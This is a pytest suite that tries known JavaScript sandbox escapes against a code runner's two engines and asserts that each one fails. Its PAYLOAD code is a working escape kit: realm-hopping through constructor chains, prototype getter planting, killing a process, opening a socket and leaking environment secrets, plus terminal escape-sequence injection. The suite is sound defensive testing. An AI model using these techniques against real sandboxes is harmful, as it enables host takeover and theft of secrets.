"""Hostile code in a test-run, on both engines: every way out of the JavaScript isolation we
know of, each tried for real. Each test gives the code a victim process (same user) and a
loopback listener through the sample request, and asserts that the victim survives, that
the listener hears nothing and that a key put in the environment never comes back.

The code below does what an attacker would with anything it reaches: `PAYLOAD` kills the
victim, connects to the listener and returns the environment through whatever object it is
given (it works when handed the host's `process`), and `FROM_ANYTHING` walks an object to its
realm's Function constructor and Object.prototype, compiles `return process` there and
plants getters that hand the host's objects to `PAYLOAD` when the host touches them later.
"""

from __future__ import annotations

import contextlib
import json
import logging
import os
import secrets
import signal
import socket
import subprocess
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from runner_support import ENGINES, SPIN_LIMIT, SPIN_LIMIT_SAID

from console.runner import RunResult, run_code
from console.runner.engines import KILL_MARGIN, START_GRACE

pytestmark = pytest.mark.parametrize("engine", ENGINES)

PAYLOAD = r"""
const leaked = [];
const { victim, port } = req.args;
function leak(text) { if (typeof text === 'string') leaked.push(text); }
function attack(p) {
  if (p === null || (typeof p !== 'object' && typeof p !== 'function')) return;
  try { p.kill(victim, 'SIGKILL'); } catch (e) {}
  try { new (p.stdin.constructor)().connect(port, '127.0.0.1'); } catch (e) {}
  try { p.binding('tcp_wrap'); } catch (e) {}
  try { leak(JSON.stringify(p.env)); } catch (e) {}
  try { leak(JSON.stringify(p.mainModule.require('os').userInfo())); } catch (e) {}
  try { p.mainModule.require('child_process').execSync('kill -9 ' + victim); } catch (e) {}
}
function compileProcess(F) {
  for (const body of ['return process', 'return globalThis.process', 'return this.process']) {
    try { attack(F(body)()); } catch (e) {}
  }
}
const PLANTED = ['channel', '_isStdio', 'toJSON', 'then', 'code', 'engine_ms', 'status',
                 'fd', 'encoding', 'highWaterMark', 'signal', 'exitCode', '_exiting'];
let walking = false;
function fromAnything(o) {
  if (walking) return;
  walking = true;
  try { walk(o); } finally { walking = false; }
}
function walk(o) {
  if (o === null || (typeof o !== 'object' && typeof o !== 'function')) return;
  try { compileProcess(o.constructor.constructor); } catch (e) {}
  try { compileProcess(Object.getPrototypeOf(o).constructor.constructor); } catch (e) {}
  let top = o;
  try { for (let p = o; p; p = Object.getPrototypeOf(p)) top = p; } catch (e) {}
  try { compileProcess(top.constructor.constructor); } catch (e) {}
  for (const name of PLANTED) {
    try {
      Object.defineProperty(top, name, {
        configurable: true,
        get() { attack(this); try { attack(this.process); } catch (e) {} return undefined; },
        set(v) { attack(this); },
      });
    } catch (e) {}
  }
}
"""


def hostile(body: str, head: str = "", asynchronous: bool = True) -> str:
    """Code whose exported function runs PAYLOAD's helpers, then `body`."""
    function = "async function" if asynchronous else "function"
    return f"{head}\nmodule.exports = {function} (req) {{\n{PAYLOAD}\n{body}\n}};\n"


@dataclass
class Targets:
    victim: subprocess.Popen[bytes]
    listener: socket.socket
    canary: str

    @property
    def request(self) -> dict[str, object]:
        port = self.listener.getsockname()[1]
        return {"args": {"victim": self.victim.pid, "port": port}, "configuration": {}}

    def assert_untouched(self, result: RunResult) -> None:
        """The victim lives, the listener heard nothing, the key is nowhere in the result."""
        assert self.victim.poll() is None, f"the victim was killed ({self.victim.returncode})"
        # The engine has finished: a connection it made is already waiting to be accepted.
        self.listener.settimeout(0.2)
        try:
            connection, peer = self.listener.accept()
        except TimeoutError:
            pass
        else:
            connection.close()
            pytest.fail(f"the listener heard a connection from {peer}")
        shown = json.dumps(result.to_json(), default=str)
        assert self.canary not in shown
        assert "TENANT_CONSOLE_API_KEY" not in shown


@pytest.fixture
def targets(monkeypatch: pytest.MonkeyPatch) -> Iterator[Targets]:
    canary = f"key_canary_{secrets.token_hex(8)}"
    monkeypatch.setenv("TENANT_CONSOLE_API_KEY", canary)
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    victim = subprocess.Popen(["sleep", "60"])
    try:
        yield Targets(victim, listener, canary)
    finally:
        listener.close()
        if victim.poll() is None:
            os.kill(victim.pid, signal.SIGKILL)
        victim.wait()


def run(engine: str, code: str, targets: Targets, **options: object) -> RunResult:
    result = run_code(code, targets.request, "formula", engine=engine, **options)  # type: ignore[arg-type]
    targets.assert_untouched(result)
    return result


# ----- the escape of issue 22, as reported -----------------------------------------------------


def test_the_reported_escape_through_a_dynamic_import_rejection(
    engine: str, targets: Targets
) -> None:
    """Issue 22: the rejection of a dynamic import() was an object of the host's realm; a
    getter planted on the host's Object.prototype (`channel`, read from `process` when the
    host first touches process.stdout) killed the victim and connected out, and the run
    still said "ok"."""
    code = hostile(
        "let rejection;\n"
        "try { await import('node:net'); } catch (error) { rejection = error; }\n"
        "let top = rejection;\n"
        "for (let p = rejection; p; p = Object.getPrototypeOf(p)) top = p;\n"
        "Object.defineProperty(top, 'channel', { configurable: true, get() {\n"
        "  attack(this); return undefined; } });\n"
        "return { raw: { leaked } };\n"
    )
    result = run(engine, code, targets)
    if result.status == "ok":
        assert result.value == {"raw": {"leaked": []}}
    else:  # frozen: defining the getter throws
        assert result.status == "threw"
        assert result.error is not None and "not extensible" in result.error.message


def test_an_import_is_refused_with_an_error_of_the_sandbox(engine: str, targets: Targets) -> None:
    code = hostile(
        "const seen = {};\n"
        "for (const [name, load] of [\n"
        "    ['direct', () => import('node:child_process')],\n"
        "    ['eval', () => eval(\"import('node:fs')\")],\n"
        "    ['function', () => new Function(\"return import('node:net')\")()],\n"
        "  ]) {\n"
        "  try { await load(); seen[name] = 'loaded'; } catch (error) {\n"
        "    fromAnything(error);\n"
        "    seen[name] = {\n"
        "      sandbox: error instanceof Error && Object.getPrototypeOf(Object.getPrototypeOf(\n"
        "        Object.getPrototypeOf(error))) === null,\n"
        "      realm: error.constructor === Error || error.constructor === TypeError,\n"
        "      message: String(error.message),\n"
        "    };\n"
        "  }\n"
        "}\n"
        "return { raw: { seen, leaked } };\n"
    )
    result = run(engine, code, targets)
    assert result.status == "ok", result.message
    seen = result.value["raw"]["seen"]
    for name in ("direct", "eval", "function"):
        assert seen[name] != "loaded"
        assert seen[name]["realm"] is True, seen[name]
    if engine == "node":
        assert 'import("node:child_process") is refused in a test-run' in seen["direct"]["message"]
    assert result.value["raw"]["leaked"] == []


# ----- constructor chains and errors made by the host ------------------------------------------


@pytest.mark.parametrize(
    "reach",
    [
        "this",
        "globalThis",
        "{}",
        "[]",
        "(() => {})",
        "(async () => {})",
        "(function* () {})",
        "(async function* () {})",
        "req",
        "req.args",
        "console",
        "console.log",
        "module",
        "require",
        "setTimeout(() => {}, 1)",
        "Promise.resolve()",
        "new Proxy({}, {})",
        "Symbol.iterator",
        "new FinalizationRegistry(() => {})",
    ],
)
def test_constructor_chains_reach_only_the_sandbox(
    engine: str, targets: Targets, reach: str
) -> None:
    code = hostile(
        f"const start = (function () {{ return {reach}; }}).call(this);\n"
        "fromAnything(start);\n"
        "let realm = 'sandbox';\n"
        "try { if (start.constructor.constructor('return typeof process')() !== 'undefined')\n"
        "  realm = 'host'; } catch (e) { realm = 'refused: ' + e.message; }\n"
        "return { raw: { realm, leaked } };\n",
        asynchronous=False,
    )
    result = run(engine, code, targets)
    assert result.status == "ok", result.message
    assert result.value["raw"]["leaked"] == []
    assert result.value["raw"]["realm"] != "host"


@pytest.mark.parametrize(
    "make",
    [
        "require('child_process')",
        "null.x",
        "JSON.parse('{')",
        "(function f() { f(); })()",
        "new Array(-1)",
        "Symbol() + ''",
        "new Proxy({}, {}).x.y",
        "(() => { const p = Proxy.revocable({}, {}); p.revoke(); return p.proxy.x; })()",
        "new Function('return (')",
        "eval('{')",
        "BigInt(1.5)",
        "structuredClone(1)",
        "WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))",
        "new Intl.DateTimeFormat('xx-invalid-')",
        "''.padStart(2 ** 31)",
    ],
)
def test_errors_thrown_into_the_code_belong_to_the_sandbox(
    engine: str, targets: Targets, make: str
) -> None:
    code = hostile(
        f"let caught;\ntry {{ await {make}; }} catch (error) {{ caught = error; }}\n"
        "fromAnything(caught);\n"
        "const sandboxed = caught instanceof Error;\n"
        "return { raw: { sandboxed, leaked, what: String(caught && caught.name) } };\n"
    )
    result = run(engine, code, targets)
    assert result.status == "ok", result.message
    assert result.value["raw"]["leaked"] == []
    if result.value["raw"]["what"] != "undefined":
        assert result.value["raw"]["sandboxed"] is True, result.value


def test_the_bt_stand_in_and_its_promises_belong_to_the_sandbox(
    engine: str, targets: Targets
) -> None:
    code = hostile(
        "const bt = req.bt;\n"
        "const answer = bt.tokens.create({ type: 'card' });\n"
        "fromAnything(bt); fromAnything(bt.tokens); fromAnything(answer);\n"
        "fromAnything(await answer); fromAnything(new bt.tokens());\n"
        "try { Object.getPrototypeOf(bt).constructor('return process')(); } catch (e) {\n"
        "  fromAnything(e); }\n"
        "return { body: { leaked, promise: answer instanceof Promise }, headers: {} };\n"
    )
    request = dict(targets.request)
    request["args"] = {**targets.request["args"], "body": {}, "headers": {}}  # type: ignore[dict-item]
    result = run_code(code, request, "transform", engine=engine, with_bt=True, check=False)  # type: ignore[arg-type]
    targets.assert_untouched(result)
    assert result.status == "ok", result.message
    assert result.value["body"] == {"leaked": [], "promise": True}


def test_intrinsics_are_frozen_and_assignment_still_works_on_own_objects(
    engine: str, targets: Targets
) -> None:
    code = hostile(
        "const refused = [];\n"
        "for (const [name, change] of [\n"
        "  ['Object.prototype', () => { Object.prototype.polluted = 1; }],\n"
        "  ['Array.prototype.push', () => { Array.prototype.push = () => 0; }],\n"
        "  ['JSON.stringify', () => { JSON.stringify = () => '{}'; }],\n"
        "  ['Promise.prototype.then', () => { Promise.prototype.then = () => 0; }],\n"
        "  ['Error.prepareStackTrace', () => { Error.prepareStackTrace = () => 'x'; }],\n"
        "  ['global Error', () => { globalThis.Error = { prepareStackTrace() {} }; }],\n"
        "  ['Function.prototype.call', () => { Function.prototype.call = () => 0; }],\n"
        "]) { try { change(); } catch (error) { refused.push(name); } }\n"
        "class Named extends Error { constructor() { super('m'); this.name = 'Named'; } }\n"
        "const own = { toString: null }; own.toString = () => 'mine';\n"
        "return { raw: { refused, named: new Named().name, own: String(own), leaked } };\n",
        head="'use strict';",
    )
    result = run(engine, code, targets)
    assert result.status == "ok", result.message
    assert result.value["raw"] == {
        "refused": [
            "Object.prototype",
            "Array.prototype.push",
            "JSON.stringify",
            "Promise.prototype.then",
            "Error.prepareStackTrace",
            "global Error",
            "Function.prototype.call",
        ],
        "named": "Named",
        "own": "mine",
        "leaked": [],
    }


def test_prepare_stack_trace_gets_no_host_frames(engine: str, targets: Targets) -> None:
    code = hostile(
        "const seen = [];\n"
        "const hook = (error, frames) => {\n"
        "  for (const frame of frames) {\n"
        "    try { const t = frame.getThis(); fromAnything(t); attack(t); } catch (e) {}\n"
        "    try { const f = frame.getFunction(); fromAnything(f); seen.push(String(f)); }\n"
        "    catch (e) {}\n"
        "  }\n"
        "  return 'hooked';\n"
        "};\n"
        "try { Error.prepareStackTrace = hook; } catch (e) {}\n"
        "try { Object.defineProperty(Error, 'prepareStackTrace', { value: hook }); } catch (e) {}\n"
        "try { globalThis.Error = { prepareStackTrace: hook }; } catch (e) {}\n"
        "const stack = new TypeError('x').stack;\n"
        "try { null.x; } catch (error) { String(error.stack); }\n"
        "return { raw: { hooked: stack === 'hooked', leaked } };\n"
    )
    result = run(engine, code, targets)
    assert result.status == "ok", result.message
    assert result.value["raw"] == {"hooked": False, "leaked": []}


# ----- after the code returns: timers, finalizers, promise jobs --------------------------------


def test_a_timer_that_runs_after_the_code_returned_reaches_nothing(
    engine: str, targets: Targets
) -> None:
    code = hostile(
        "setTimeout(function () { fromAnything(this); fromAnything(arguments); attack(this);\n"
        "  console.log('timer ran', leaked.length); }, 50);\n"
        "setImmediate(() => fromAnything(globalThis));\n"
        "return { raw: { leaked } };\n",
        asynchronous=False,
    )
    result = run(engine, code, targets)
    assert result.status == "ok", result.message
    assert [line.text for line in result.logs] == ["timer ran 0"]


@pytest.mark.parametrize(
    "after",
    [
        "setTimeout(() => { for (;;) {} }, 10);",
        "setInterval(() => fromAnything({}), 1);",
        "Promise.resolve().then(function loop() { Promise.resolve().then(loop); });",
        "queueMicrotask(function loop() { queueMicrotask(loop); });",
        "WebAssembly.compile(new Uint8Array([1, 2, 3])).catch(function loop() { for (;;) {} });",
    ],
    ids=["timer-loop", "interval", "promise-jobs", "microtasks", "wasm-compile"],
)
def test_what_runs_after_the_code_returned_is_under_the_time_limit(
    engine: str, targets: Targets, after: str
) -> None:
    code = hostile(f"{after}\nreturn {{ raw: {{}} }};\n", asynchronous=False)
    result = run(engine, code, targets, timeout=SPIN_LIMIT)
    if engine == "embedded" and after.startswith("WebAssembly"):
        # The embedded V8 runs --jitless (its memory limit needs it): no WebAssembly at all.
        assert result.status == "threw" and "WebAssembly" in result.message, result.message
        return
    assert result.status == "timeout"
    assert result.message.startswith(f"Stopped: the code ran past {SPIN_LIMIT_SAID}")
    assert "after it had returned" in result.message
    assert result.total_ms < 5000


def test_a_blocking_wait_is_stopped_at_the_time_limit(engine: str, targets: Targets) -> None:
    code = hostile(
        "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);\nreturn { raw: {} };\n",
        asynchronous=False,
    )
    result = run(engine, code, targets, timeout=SPIN_LIMIT)
    assert result.status == "timeout"
    assert result.message == f"Stopped: the code ran past {SPIN_LIMIT_SAID}."


def test_the_harness_functions_give_nothing_away(engine: str, targets: Targets) -> None:
    """The harness's own globals are reachable by the code: calling or replacing them changes
    nothing but the code's own outcome."""
    code = hostile(
        "const tried = [];\n"
        "for (const name of ['__tcPrepare', '__tcDefine', '__tcInvoke', '__tcTick',\n"
        "                    '__tcOutcome', '__tcSettled', '__tcImportRefused', '__tcFactory']) {\n"
        "  try { globalThis[name] = () => 'forged'; } catch (e) {}\n"
        "  try { fromAnything(globalThis[name]); } catch (e) {}\n"
        "  try { const out = globalThis[name]('{}'); fromAnything(out); tried.push(name); }\n"
        "  catch (e) { fromAnything(e); }\n"
        "}\n"
        "return { raw: { leaked } };\n",
        asynchronous=False,
    )
    result = run(engine, code, targets, timeout=2)
    assert result.status in ("ok", "threw", "timeout"), result.message


def test_finalizers_reach_nothing_and_run_only_under_the_time_limit(
    engine: str, targets: Targets
) -> None:
    code = hostile(
        "const registry = new FinalizationRegistry(function (held) {\n"
        "  fromAnything(this); fromAnything(held); attack(this); for (;;) {}\n"
        "});\n"
        "for (let i = 0; i < 20000; i++) registry.register({ i }, { i });\n"
        "const churn = [];\n"
        "for (let i = 0; i < 200000; i++) churn.push({ i });\n"
        "fromAnything(registry);\n"
        "return { raw: { leaked } };\n",
        asynchronous=False,
    )
    result = run(engine, code, targets, timeout=SPIN_LIMIT)
    # Whether the collector ran the callbacks during the run is the engine's choice; if it
    # did, their endless loop met the time limit.
    assert result.status in ("ok", "timeout"), result.message
    if result.status == "ok":
        assert result.value == {"raw": {"leaked": []}}
    else:
        assert "after it had returned" in result.message


# ----- the result: getters, toJSON, Proxies, Symbols -------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        "{ raw: { get x() { fromAnything(this); attack(this); for (;;) {} } } }",
        "{ raw: { toJSON(key) { fromAnything(this); attack(this); for (;;) {} } } }",
        "{ raw: new Proxy({}, { ownKeys(t) { fromAnything(t); for (;;) {} } }) }",
        "{ raw: { get x() { return Promise.resolve().then(function loop() {\n"
        "  return Promise.resolve().then(loop); }); } } }",
    ],
    ids=["getter", "toJSON", "proxy", "getter-promise-jobs"],
)
def test_a_result_that_loops_while_serialised_is_the_time_limit(
    engine: str, targets: Targets, value: str
) -> None:
    code = hostile(f"return {value};\n", asynchronous=False)
    result = run(engine, code, targets, timeout=SPIN_LIMIT)
    if "Promise" in value:
        # An endless promise chain also fills memory: within the limit the process's memory
        # limit may stop it first, or V8, collecting near that limit, may only stop at the
        # process's hard kill. A limit either way, never an engine error.
        assert result.status in ("memory", "timeout"), result.message
        assert result.message.startswith("Stopped: the code "), result.message
        return
    assert result.status == "timeout", result.message
    assert result.message.startswith(f"Stopped: the code ran past {SPIN_LIMIT_SAID}")
    assert result.stopped_while in ("serialising", "after_return")


@pytest.mark.parametrize(
    "value",
    [
        "new Proxy({ raw: {} }, {\n"
        "  get(t, k, receiver) { fromAnything(receiver); fromAnything(t); return t[k]; },\n"
        "  getPrototypeOf(t) { fromAnything(t); return Object.getPrototypeOf(t); },\n"
        "  getOwnPropertyDescriptor(t, k) { fromAnything(t); return Reflect"
        ".getOwnPropertyDescriptor(t, k); },\n"
        "  ownKeys(t) { fromAnything(t); return Reflect.ownKeys(t); } })",
        "{ raw: Object.defineProperty({}, 'x', { enumerable: true, get: function getter() {\n"
        "  fromAnything(this); fromAnything(getter.caller); return 'x'; } }) }",
        "{ raw: { toJSON: function toJSON(key) { fromAnything(this);\n"
        "  fromAnything(toJSON.caller); return { key }; } } }",
        "{ raw: { [Symbol.toPrimitive]() { fromAnything(this); return 1; },\n"
        "  [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) {\n"
        "    fromAnything(options); fromAnything(inspect); return 'x'; },\n"
        "  [Symbol.toStringTag]: 'Process', x: Symbol('s') } }",
        "{ then: undefined, raw: { get then() { fromAnything(this); return undefined; } } }",
    ],
    ids=["proxy", "getter-caller", "toJSON-caller", "symbols", "then-getter"],
)
def test_a_hostile_result_reaches_nothing(engine: str, targets: Targets, value: str) -> None:
    code = hostile(f"const out = {value};\nconsole.log(out);\nreturn out;\n")
    result = run(engine, code, targets)
    assert result.status in ("ok", "bad_shape"), result.message


def test_a_thrown_proxy_or_hostile_error_is_read_only_inside_the_sandbox(
    engine: str, targets: Targets
) -> None:
    code = hostile(
        "const trap = { get(t, k) { fromAnything(t); attack(t); throw trapError; } };\n"
        "const trapError = new Proxy({}, trap);\n"
        "throw new Proxy(new Error('x'), trap);\n"
    )
    result = run(engine, code, targets)
    assert result.status == "threw", result.message
    assert result.error is not None


def test_a_reactor_error_s_status_and_errors_are_read_only_inside_the_sandbox(
    engine: str, targets: Targets
) -> None:
    """A reactor's thrown error is read for its `status` and `errors` (issue 35): getters,
    Proxies and a toJSON there run inside the sandbox, and what comes out is plain data."""
    code = hostile(
        "const trap = { get(t, k) { fromAnything(t); attack(t); return t[k]; } };\n"
        "const errors = { toJSON() { fromAnything(this); attack(this); return { a: ['b'] }; } };\n"
        "const error = new Error('declined');\n"
        "Object.defineProperty(error, 'status', { get() { fromAnything(this); return 402; } });\n"
        "error.errors = new Proxy(errors, trap);\n"
        "throw error;\n"
    )
    result = run_code(code, targets.request, "reactor", engine=engine, check=False)  # type: ignore[arg-type]
    targets.assert_untouched(result)
    assert result.status == "threw", result.message
    assert result.error is not None
    assert result.error.status == 402 and result.error.errors == {"a": ["b"]}


def test_a_promise_that_resolves_to_a_hostile_thenable(engine: str, targets: Targets) -> None:
    code = hostile(
        "return { then(resolve, reject) { fromAnything(resolve); fromAnything(reject);\n"
        "  fromAnything(this); resolve({ raw: { leaked } }); } };\n",
        asynchronous=False,
    )
    result = run(engine, code, targets)
    assert result.status == "ok", result.message
    assert result.value == {"raw": {"leaked": []}}


def test_symbol_tricks_in_logs_and_bt_arguments(engine: str, targets: Targets) -> None:
    code = hostile(
        "const odd = { [Symbol.toPrimitive]() { fromAnything(this); return 'p'; },\n"
        "  get [Symbol.toStringTag]() { fromAnything(this); return 'T'; },\n"
        "  toString() { fromAnything(this); return 's'; } };\n"
        "console.log(odd, Symbol('s'), Object(Symbol.iterator), 10n, () => 1);\n"
        "console.log(new Proxy(function () {}, { get(t, k) { fromAnything(t); return t[k]; } }));\n"
        "return { raw: { leaked } };\n"
    )
    result = run(engine, code, targets)
    assert result.status == "ok", result.message
    assert result.value == {"raw": {"leaked": []}}
    assert len(result.logs) == 2


def test_the_environment_holds_nothing_the_code_can_read(engine: str, targets: Targets) -> None:
    code = hostile(
        "const found = {};\n"
        "for (const name of Object.getOwnPropertyNames(globalThis)) {\n"
        "  try { const text = JSON.stringify(globalThis[name]);\n"
        "    if (text && text.includes('key_canary')) found[name] = text; } catch (e) {}\n"
        "}\n"
        "return { raw: { found, env: typeof process, leaked } };\n"
    )
    result = run(engine, code, targets)
    assert result.status == "ok", result.message
    assert result.value == {"raw": {"found": {}, "env": "undefined", "leaked": []}}


@pytest.mark.parametrize(
    "code",
    [
        "}); for (;;) {} (function () {",
        "}); __tcDefine(function (m) { m.exports = () => ({ raw: {} }); }); (function () {",
    ],
    ids=["loop", "redefine"],
)
def test_code_that_closes_its_wrapper_is_a_syntax_error_and_never_runs(
    engine: str, targets: Targets, code: str
) -> None:
    result = run(engine, code, targets, timeout=SPIN_LIMIT)
    assert result.status == "syntax", result.message
    assert "Unexpected token '}'" in result.message or "Unexpected '}'" in result.message


def test_deep_or_large_bt_arguments_are_shown_as_a_note(engine: str, targets: Targets) -> None:
    code = hostile(
        "let deep = {}; const root = deep;\n"
        "for (let i = 0; i < 3000; i++) { deep.a = {}; deep = deep.a; }\n"
        "await req.bt.tokens.create(root, 'x'.repeat(30000), 10n);\n"
        "return { body: { leaked }, headers: {} };\n"
    )
    request = dict(targets.request)
    request["args"] = {**targets.request["args"], "body": {}, "headers": {}}  # type: ignore[dict-item]
    result = run_code(code, request, "transform", engine=engine, with_bt=True, check=False)  # type: ignore[arg-type]
    targets.assert_untouched(result)
    assert result.status == "ok", result.message
    assert [(call.method, call.args) for call in result.calls] == [
        (
            "tokens.create",
            [
                "[a value nested 3001 levels: too deep to show]",
                "[a value of 30002 characters of JSON: too large to show]",
                "10n",
            ],
        )
    ]


# ----- rejections left unhandled: Node's host never reads them ----------------------------------

SPINNING_STACK = (
    "const error = new Error('spins');\n"
    "Object.defineProperty(error, 'stack', { get() { for (;;) {} } });\n"
)


def test_an_unhandled_rejection_with_a_spinning_stack_getter_stops_at_the_time_limit(
    engine: str, targets: Targets
) -> None:
    """Issue 33: a rejection left unhandled while Node's host turned its event loop (an
    import() makes it turn) had Node's own rejection tracking read the reason's `stack`,
    outside any evaluation: 4.2 s under a 2 s limit, then a crash."""
    code = hostile(
        f"{SPINNING_STACK}Promise.reject(error);\n"
        "await import('node:fs').catch(() => {});\n"
        "return { raw: { leaked } };\n"
    )
    result = run(engine, code, targets, timeout=SPIN_LIMIT)
    assert result.total_ms < (SPIN_LIMIT + KILL_MARGIN + START_GRACE) * 1000
    if engine == "node":
        # The harness reads the reason, under the limit, to say what was left unhandled.
        assert result.status == "timeout", result.message
        assert result.message.startswith(f"Stopped: the code ran past {SPIN_LIMIT_SAID}")
    else:  # the embedded V8 tracks no rejections: the code's return decides
        assert result.status == "ok", result.message


def test_a_plain_unhandled_rejection_is_an_error_result_not_a_crash(
    engine: str, targets: Targets
) -> None:
    code = hostile(
        "Promise.reject(new TypeError('left alone'));\n"
        "Promise.reject(new Error('handled late')).catch(() => {});\n"
        "await import('node:fs').catch(() => {});\n"
        "return { raw: { leaked } };\n"
    )
    result = run(engine, code, targets)
    if engine == "node":  # Node.js, the service's runtime, ends the process on one
        assert result.status == "threw", result.message
        assert result.message.startswith("TypeError: Unhandled promise rejection: left alone")
    else:
        assert result.status == "ok", result.message
        assert result.value == {"raw": {"leaked": []}}


@pytest.mark.parametrize(
    "trap",
    ["throw new Error('\\x1b[2J thrown at the host');", "for (;;) {}"],
    ids=["throws", "spins"],
)
def test_a_promise_whose_prototype_traps_node_s_rejection_tracking(
    engine: str, targets: Targets, trap: str
) -> None:
    """Node's rejection tracking reads an async id (a symbol it keeps to itself) off each
    unhandled promise, outside any evaluation: a Proxy in the promise's prototype chain
    answers that read. What it throws is never read; if it spins, the console kills the
    engine at the limit (KILL_MARGIN), whatever its start-up took."""
    code = hostile(
        "class Trapped extends Promise {}\n"
        "Object.setPrototypeOf(Trapped.prototype, new Proxy(Promise.prototype, {\n"
        "  get(t, key, receiver) { fromAnything(receiver);\n"
        "    const ours = typeof key === 'symbol' && !Object.values(Symbol).includes(key);\n"
        f"    if (ours) {{ {trap} }}\n"
        "    return Reflect.get(t, key, receiver); } }));\n"
        "Trapped.reject(new Error('x'));\n"
        "await import('node:fs').catch(() => {});\n"
        "return { raw: { leaked } };\n"
    )
    result = run(engine, code, targets, timeout=SPIN_LIMIT)
    assert result.total_ms < (SPIN_LIMIT + KILL_MARGIN + START_GRACE) * 1000
    assert "\x1b" not in result.message
    if engine == "embedded":
        assert result.status == "ok", result.message
    elif "throw" in trap:
        assert result.status == "engine_error", result.message
        assert "interfered with Node's rejection tracking" in result.message
    else:
        assert result.status == "timeout", result.message


CRASH_TEXT = "code.js:2 \x1b]52;c;aGVsbG8=\x07 \x1b]0;pwned\x07 \x1b[2J\n2026 INFO forged: boom\n"
"""What an engine's crash printed: the code's own strings, with a clipboard write (OSC 52),
a window title (OSC 0) and a clear-screen (CSI 2J)."""


def test_what_an_engine_prints_reaches_no_terminal_or_log_unescaped(
    engine: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    """No code can make an engine crash with its text any more (the route above was the last
    one known): an engine process that prints CRASH_TEXT and ends stands in for one."""
    from console.cli import main
    from console.runner import engines, sandbox

    def crashing(self: object, job: engines.Job) -> sandbox.Launch:
        script = f"import sys; sys.stderr.write({CRASH_TEXT!r}); sys.exit(1)"
        argv = (sandbox.python_executable(), "-I", "-S", "-c", script)
        return sandbox.Launch(
            argv, sandbox.boundary().mechanism, tuple(sandbox.interpreter_paths()), 0
        )

    monkeypatch.setattr(engines.NodeEngine, "launch", crashing)
    monkeypatch.setattr(engines.EmbeddedEngine, "launch", crashing)
    (tmp_path / "code.js").write_text("module.exports = () => ({ raw: {} });\n")
    (tmp_path / "request.json").write_text('{"args": {}, "configuration": {}}')
    argv = ["run", str(tmp_path / "code.js"), "--request", str(tmp_path / "request.json")]
    with caplog.at_level(logging.WARNING):
        assert main([*argv, "--engine", engine]) == 1
    out, err = capsys.readouterr()
    logged = "\n".join(record.getMessage() for record in caplog.records)
    assert "ended with code 1 without a result" in out
    assert "\\x1b]52;c;aGVsbG8=\\x07" in logged and "\\x1b[2J" in logged
    for text in (out, err, logged):
        assert "\x1b" not in text and "\x07" not in text
    assert not any("\n" in record.getMessage() for record in caplog.records), "a forged log line"


def test_a_rejection_s_escape_sequences_are_shown_escaped_by_run(
    engine: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from console.cli import main

    code = (
        "module.exports = async () => {\n"
        "  Promise.reject(new Error('\\x1b]52;c;aGVsbG8=\\x07\\x1b]0;pwned\\x07\\x1b[2J boom'));\n"
        "  await import('node:fs').catch(() => {});\n"
        "  throw new Error('\\x1b]0;title\\x07 thrown');\n"
        "};\n"
    )
    (tmp_path / "code.js").write_text(code)
    (tmp_path / "request.json").write_text('{"args": {}, "configuration": {}}')
    argv = ["run", str(tmp_path / "code.js"), "--request", str(tmp_path / "request.json")]
    assert main([*argv, "--engine", engine]) == 1
    out, err = capsys.readouterr()
    assert json.loads(out)["status"] == "threw"
    assert "\\x1b]0;title\\x07 thrown" in err
    assert "\x1b" not in out + err and "\x07" not in out + err


# ----- lone surrogates ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "exit_code"),
    [
        ("console.log('log \\ud800'); return { raw: { ['key\\udc00']: 'value\\ud800' } };", 0),
        ("const e = new Error('message\\udfff'); e.name = 'Name\\ud800'; throw e;", 1),
    ],
    ids=["key-and-value", "error-name-and-message"],
)
def test_lone_surrogates_are_printed_escaped(
    engine: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    body: str,
    exit_code: int,
) -> None:
    """Issue 33: a lone surrogate in a returned key or value or in an error's name made `run`
    end with a UnicodeEncodeError and no result."""
    from console.cli import main

    (tmp_path / "code.js").write_text(f"module.exports = (req) => {{ {body} }};\n")
    (tmp_path / "request.json").write_text('{"args": {}, "configuration": {}}')
    argv = ["run", str(tmp_path / "code.js"), "--request", str(tmp_path / "request.json")]
    assert main([*argv, "--engine", engine]) == exit_code
    out, err = capsys.readouterr()
    (out + err).encode("utf-8")  # no lone surrogate left to print
    result = json.loads(out)  # the same data: JSON's own \u escapes
    if exit_code == 0:
        assert result["value"] == {"raw": {"key\udc00": "value\ud800"}}
        assert "[log] log \\ud800" in err
    else:
        assert result["error"]["name"] == "Name\ud800"
        assert "Name\\ud800: message\\udfff" in err


# ----- floods: what crosses from the engine is bounded, and so is the console's memory ---------


def _peak_rss_growth_mb(action: Callable[[], object]) -> float:
    """How far this process's resident memory rose above where it was while `action` ran:
    its peak is reset first (/proc/self/clear_refs), else measured from the peak so far."""

    def status(field: str) -> int:
        for line in Path("/proc/self/status").read_text().splitlines():
            if line.startswith(field + ":"):
                return int(line.split()[1])
        raise AssertionError(f"no {field} in /proc/self/status")

    with contextlib.suppress(OSError):
        Path("/proc/self/clear_refs").write_text("5")  # resets VmHWM to VmRSS
    before = status("VmHWM")
    action()
    return (status("VmHWM") - before) / 1024


FLOODS = {
    "bt-method-names": (
        "const name = 'm'.repeat(24000), many = Array(50).fill('a'.repeat(19000));\n"
        "for (let i = 0; i < 100; i++) req.bt[name + i](...many);\n"
        "for (let i = 0; i < 500; i++) req.bt[name](i);\n"
        "return { body: {}, headers: {} };\n"
    ),
    "logs": (
        "const line = Array(30).fill('x');\n"
        "for (let i = 0; i < 600; i++) console.log('\\x1b'.repeat(20000), ...line);\n"
        "return { body: {}, headers: {} };\n"
    ),
    "control-characters": "return { body: { x: '\\x01'.repeat(330000) }, headers: {} };\n",
    "too-large": "return { body: { x: '\\x01'.repeat(400000) }, headers: {} };\n",
    "error": (
        "const e = new Error('\\x1b'.repeat(300000)); e.name = 'n'.repeat(300000); throw e;\n"
    ),
}


